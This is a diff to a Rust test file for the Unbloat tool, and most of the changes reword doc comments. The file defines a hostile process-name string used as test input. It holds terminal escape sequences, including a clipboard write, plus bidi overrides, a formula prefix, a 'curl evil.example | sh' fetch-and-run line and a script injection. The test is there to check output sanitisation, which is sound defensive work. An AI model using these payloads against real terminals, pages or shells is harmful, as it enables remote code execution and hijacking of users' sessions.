@@ -1,6 +1,6 @@
-//! Processes and recordings whose names want to act: on the terminal, in a shell, in a spreadsheet, on a page.
+//! Processes and recordings whose names try to act: on the terminal, in a shell, in a spreadsheet, on a page.
 //!
-//! Whatever a process calls itself, Unbloat's output is text.
+//! Whatever a process calls itself, Unbloat's output is plain text.
 
 #![allow(clippy::unwrap_used, clippy::panic)]
 
@@ -9,8 +9,8 @@ use std::path::Path;
 use std::process::{Command, Output};
 use unbloat_test_support::{Compiler, Program, Target, c_program};
 
-/// Clears the screen, sets the window's title, writes to the clipboard (also in C1 controls), turns text around, starts a
-/// line, is a formula, markup, and a command.
+/// Clears the screen, sets the window's title, writes to the clipboard (also in C1 controls), reverses text,
+/// starts a line, and is a formula, markup, and a command.
 const NAME: &str = "=puma\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{1b}]52;c;b3duZWQ=\u{1b}\\\u{202e}evil\u{2066}\nroot# x; curl evil.example | sh \
     </script><!--<script>alert(1)";
 
@@ -23,7 +23,7 @@ fn unbloat(arguments: &[&str]) -> Output {
     Command::new(env!("CARGO_BIN_EXE_unbloat")).args(arguments).output().unwrap()
 }
 
-/// Asserts that a terminal finds nothing to act on, and a reader nothing hidden; gives the text.
+/// Asserts that a terminal finds nothing to act on, and a reader nothing hidden; returns the text.
 fn text(what: &str, output: &Output) -> String {
     let all = [&output.stdout[..], &output.stderr[..]].concat();
     let all = String::from_utf8(all).unwrap_or_else(|_| panic!("{what}: no UTF-8"));
